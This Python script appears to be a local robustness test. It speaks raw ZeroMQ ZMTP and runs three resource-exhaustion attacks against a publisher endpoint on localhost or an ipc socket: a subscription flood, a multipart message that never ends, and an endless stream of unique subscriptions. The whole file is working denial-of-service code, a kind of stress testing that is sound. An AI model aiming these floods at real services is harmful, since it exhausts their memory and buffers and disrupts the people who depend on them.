"""Attackers of a stream: ZMTP by hand, as a client library is too polite.

    python attacks.py ATTACK ENDPOINT SECONDS

It ends after so many seconds, and prints how many bytes were taken.
"""

import contextlib
import itertools
import socket
import struct
import sys
import time
from collections.abc import Iterable

SEND_S = 1.0  # a peer that takes nothing for so long is left
GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
READY = b"\x04\x19\x05READY\x0bSocket-Type\x00\x00\x00\x03SUB"


def frame(body: bytes, *, more: bool = False) -> bytes:
    return struct.pack("BB", more, len(body)) + body


ATTACKS: dict[str, Iterable[bytes]] = {  # what each connection sends, and then it leaves
    # more subscriptions than a socket's buffers hold
    "subscribe_and_leave": [b"".join(frame(b"\x01/taxeld/%d" % n) for n in range(4000))],
    # a message whose last frame never comes
    "endless_to_stream": itertools.repeat(frame(b"\x01" * 255, more=True) * 200),
    "unique_subscriptions": (frame(b"\x01" + b"%d" % n * 24) for n in itertools.count()),
}


def connected(endpoint: str) -> socket.socket:
    """A subscriber that is greeted as ZeroMQ's are, and reads nothing more."""
    scheme, _, place = endpoint.partition("://")
    local = scheme == "ipc"
    made = socket.socket(socket.AF_UNIX if local else socket.AF_INET)
    made.settimeout(SEND_S)
    made.connect(place if local else ("127.0.0.1", int(place.rpartition(":")[2])))
    made.sendall(GREETING)
    made.recv(len(GREETING))
    made.sendall(READY)
    made.recv(256)
    return made


if __name__ == "__main__":
    name, where, seconds = sys.argv[1:]
    until_s, total = time.monotonic() + float(seconds), 0
    while time.monotonic() < until_s:
        with contextlib.suppress(OSError), connected(where) as peer:
            for data in ATTACKS[name]:
                total += peer.send(data)
                if time.monotonic() > until_s:
                    break
    print(total)
